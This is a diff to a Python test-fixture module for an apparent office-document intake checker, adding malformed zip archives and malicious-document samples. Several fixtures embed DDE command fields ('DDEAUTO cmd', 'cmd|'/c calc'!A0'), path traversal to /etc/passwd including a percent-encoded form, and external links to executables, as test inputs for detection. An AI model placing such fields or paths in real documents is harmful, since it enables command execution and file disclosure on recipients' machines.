@@ -16,6 +16,8 @@ from tests.intake.packages import (
     ODF,
     OFFICE,
     WORD,
+    WORD_MAIN,
+    W,
     excel,
     excel_parts,
     odf_parts,
@@ -144,6 +146,14 @@ def hidden_between() -> bytes:
     return data[:start] + b"hidden" + data[start : -END.size] + END.pack(*end)
 
 
+def wide(data: bytes, hidden: bytes = b"") -> bytes:
+    """A zip file that counts in eight bytes at its end, with something hidden there or not."""
+    *_, parts, size, start, _ = END.unpack_from(data, len(data) - END.size)
+    end = data[: -END.size] + hidden
+    record = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, parts, parts, size, start)
+    return end + record + struct.pack("<4sIQI", b"PK\6\7", 0, len(end), 1) + data[-END.size :]
+
+
 def overlapping() -> bytes:
     """A Word file of which two entries are the same bytes."""
     data = bytearray(word())
@@ -249,6 +259,12 @@ PACKED: Mapping[str, Builder] = {
         "word/document.xml",
         f"<!DOCTYPE a [<!ENTITY q '{'q' * 50_000}'>]><a>{'&q;' * 5_000}</a>",
     ),
+    "doctype-in-drawing.docx": lambda: holding(
+        "word/media/a.svg", "image/svg+xml", b"<!DOCTYPE svg><svg/>"
+    ),
+    "doctype-in-drawing.odt": lambda: packed(
+        odf_parts() | {"Pictures/a.svg": "<!DOCTYPE svg><svg/>"}
+    ),
     "mimetype-last.odt": lambda: packed(dict(reversed(odf_parts().items()))),
     "mimetype-deflated.odt": lambda: packed(odf_parts(), stored=()),
 }
@@ -258,6 +274,7 @@ DAMAGED: Mapping[str, Builder] = {
     "half.xlsx": lambda: excel()[: len(excel()) // 2],
     "header-only.docx": lambda: b"PK\x03\x04",
     "end-only.docx": lambda: END.pack(b"PK\x05\x06", 0, 0, 1, 1, 46, 0, 0),
+    "hidden-before-wide-end.docx": lambda: wide(word(), hidden=b"hidden"),
     "no-end.odt": lambda: odt()[: -END.size],
     "says-less.docx": lambda: patched(word(), 9, 8, 10),
     "says-more.docx": lambda: patched(word(), 9, 8, 1 << 30),
@@ -272,6 +289,24 @@ DAMAGED: Mapping[str, Builder] = {
     "no-manifest.odt": lambda: packed(
         {name: part for name, part in odf_parts().items() if "manifest" not in name}
     ),
+    "two-mains.docx": lambda: with_part(
+        "_rels/.rels", relations(*(relation("officeDocument", f"word/{n}.xml") for n in "ab"))
+    ),
+    "main-of-another-type.docx": lambda: with_part(
+        "_rels/.rels", relations(relation("officeDocument", "word/document.xml", root="urn:a"))
+    ),
+    "relations-of-another-kind.docx": lambda: with_part(
+        "_rels/.rels",
+        relations(relation("officeDocument", "word/document.xml")).replace("2006", "2007", 1),
+    ),
+    "two-types.docx": lambda: with_part(
+        "[Content_Types].xml",
+        types("word/document.xml", WORD_MAIN, {"/word/Document.xml": "application/xml"}),
+    ),
+    "no-namespace.docx": lambda: with_part(
+        "word/document.xml", "<w:document><w:body/></w:document>"
+    ),
+    "same-attribute.docx": lambda: word(f'<w:p xmlns:x="{W}" w:a="1" x:a="2"/>'),
     "broken-main.docx": lambda: with_part("word/document.xml", word_body("<w:p>")),
     "broken-types.docx": lambda: with_part("[Content_Types].xml", "<Types"),
     "broken-sheet.xlsx": lambda: packed(excel_parts() | {"xl/worksheets/sheet1.xml": "<a>"}),
@@ -350,6 +385,17 @@ ACTIVE: Mapping[str, Builder] = {
     "field-picture.docx": lambda: word_field(
         field(instruction('INCLUDEPICTURE "http://192.0.2.1/a.png" \\d'))
     ),
+    "field-after-spaces.docx": lambda: word_field(
+        field(instruction(" " * 5_000), instruction("DDEAUTO cmd"))
+    ),
+    "field-broken-up.docx": lambda: word_field(
+        field("<w:r><w:instrText>DDE<w:proofErr/>AUTO cmd</w:instrText></w:r>")
+    ),
+    "field-in-untyped-part.docx": lambda: holding(
+        "word/header1.xml",
+        "application/xml",
+        word_body(f"<w:p>{field(instruction('DDE a b'))}</w:p>").encode(),
+    ),
     "field-endless.docx": lambda: word_field(turn("begin"), instruction("IMPORT a.wmf")),
     "field-in-header.docx": lambda: holding(
         "word/header1.xml",
@@ -359,6 +405,7 @@ ACTIVE: Mapping[str, Builder] = {
     "dde.xlsx": lambda: formula("cmd|'/c calc'!A0"),
     "web-service.xlsx": lambda: formula('_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A2)'),
     "another-book.xlsx": lambda: formula("SUM([1]Sheet1!A1:A9)"),
+    "dde-behind-a-quote.xlsx": lambda: formula("'a&quot;'!A1+cmd|'/c calc'!A0+'&quot;'!A1"),
     "another-book-quoted.xlsx": lambda: formula("'[2]My sheet'!$A$1"),
     "dde-in-name.xlsx": lambda: packed(
         excel_parts(
@@ -380,6 +427,12 @@ ACTIVE: Mapping[str, Builder] = {
         '<table:table><table:table-row><table:table-cell table:formula=\'of:=DDE("soffice";"a")\'/>'
         "</table:table-row></table:table>"
     ),
+    "dde-name.ods": lambda: ods(
+        "<table:named-expression table:expression='of:=DDE(&quot;soffice&quot;)'/>"
+    ),
+    "another-file.ods": lambda: ods(
+        "<table:table-cell table:formula=\"of:=['../other.ods'#$Sheet1.A1]\"/>"
+    ),
 }
 
 EXTERNAL: Mapping[str, Builder] = {
@@ -387,6 +440,10 @@ EXTERNAL: Mapping[str, Builder] = {
     "template-file.docx": lambda: external("attachedTemplate", "file:///C:/Users/a/letter.dotx"),
     "picture-web.docx": lambda: external("image", "http://192.0.2.1/pixel.png"),
     "picture-file.docx": lambda: external("image", "file:///etc/passwd"),
+    "picture-called-internal.docx": lambda: word(
+        "<w:p/>", relation("image", "http://192.0.2.1/pixel.png")
+    ),
+    "link-in-field.docx": lambda: word_field(field(instruction('HYPERLINK "file:///C:/a.exe"'))),
     "picture-drawn.docx": lambda: word(BAD_PICTURE),
     "link-file.docx": lambda: external("hyperlink", "file:///C:/Users/a/report.docx"),
     "link-script.docx": lambda: external("hyperlink", "javascript:alert(1)"),
@@ -411,6 +468,10 @@ EXTERNAL: Mapping[str, Builder] = {
     "query.xlsx": lambda: excel_holding("xl/queryTables/q1.xml", f"{EXCEL}.queryTable+xml"),
     "picture.odt": lambda: odt("<draw:image xlink:href='http://192.0.2.1/a.png'/>"),
     "picture-upwards.odt": lambda: odt("<draw:image xlink:href='../../etc/passwd'/>"),
+    "picture-through-folder.odt": lambda: odt(
+        "<draw:image xlink:href='Pictures/../../etc/passwd'/>"
+    ),
+    "picture-in-disguise.odt": lambda: odt("<draw:image xlink:href='a/%2e%2e/%2e%2e/passwd'/>"),
     "link.odt": lambda: odt("<text:p><text:a xlink:href='../other.odt'>a</text:a></text:p>"),
     "section.odt": lambda: odt(
         "<text:section><text:section-source xlink:href='http://192.0.2.1/a.odt'/></text:section>"
@@ -434,6 +495,15 @@ PARTS: Mapping[str, Builder] = {
 PROTECTED: Mapping[str, Builder] = {
     "password.docx": lambda: old_office("Root Entry", "EncryptionInfo", "EncryptedPackage"),
     "password-capitals.xlsx": lambda: old_office("ROOT ENTRY", "ENCRYPTEDPACKAGE"),
+    "password-large.docx": lambda: OLE + bytes(2 << 20) + old_office("EncryptedPackage"),
+    "password-whole.odt": lambda: packed(
+        {
+            "mimetype": "application/vnd.oasis.opendocument.text",
+            "META-INF/manifest.xml": f'<m:manifest xmlns:m="{ODF}:manifest:1.0">'
+            "<m:encryption-data/></m:manifest>",
+            "encrypted-package": b"secret",
+        }
+    ),
     "password.odt": lambda: packed(
         odf_parts(encrypted=f'<e:encryption-data xmlns:e="{ODF}:manifest:1.0"/>')
     ),
@@ -449,10 +519,19 @@ OTHERS: Mapping[str, Builder] = {
     "drawing.gif": lambda: b"GIF89a",
     "phone.heic": lambda: b"\0\0\0\x18ftypheic",
     "web.webp": lambda: b"RIFF\0\0\0\0WEBP",
+    "film.mov": lambda: b"\0\0\0\x14ftypqt  ",
+    "memo.m4a": lambda: b"\0\0\0\x1cftypM4A ",
+    "memo.mp3": lambda: b"ID3\x04",
+    "memo.wav": lambda: b"RIFF\0\0\0\0WAVE",
+    "shortcut.lnk": lambda: b"L\0\0\0\x01\x14\x02\0",
+    "shortcut.url": lambda: b"[InternetShortcut]\r\nURL=https://example.org/report.docx\r\n",
     "text.rtf": lambda: b"{\\rtf1 text}",
     "rtf-as-word.docx": lambda: b"{\\rtf1 text}",
     "page.html": lambda: b"<p>text",
     "page-as-word.docx": lambda: b"<!DOCTYPE html><html>",
+    "word-2003.xml": lambda: b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>',
+    "excel-2003.xls": lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><a/>',
+    "exported.doc": lambda: b"Subject: Exported\r\nMIME-Version: 1.0\r\n",
     "notes.txt": lambda: b"notes",
     "files.zip": lambda: packed({"a.docx": word(), "b.docx": word()}),
     "zip-as-word.docx": lambda: packed({"a.docx": word()}),
@@ -472,6 +551,7 @@ OTHERS: Mapping[str, Builder] = {
     "program.docx": lambda: b"\x7fELF",
     "flat.fodt": lambda: b"<office:document/>",
     "pages.docx": lambda: packed({"Index/Document.iwa": b"", "Metadata/a.plist": b""}),
+    "old.pages": lambda: packed({"index.xml": "<a/>", "buildVersionHistory.plist": b""}),
     "strict.docx": strict,
     "template.docx": lambda: of_type(f"{WORD}.template.main+xml"),
     "template.xlsx": lambda: packed(excel_parts(kind=f"{EXCEL}.template.main+xml")),
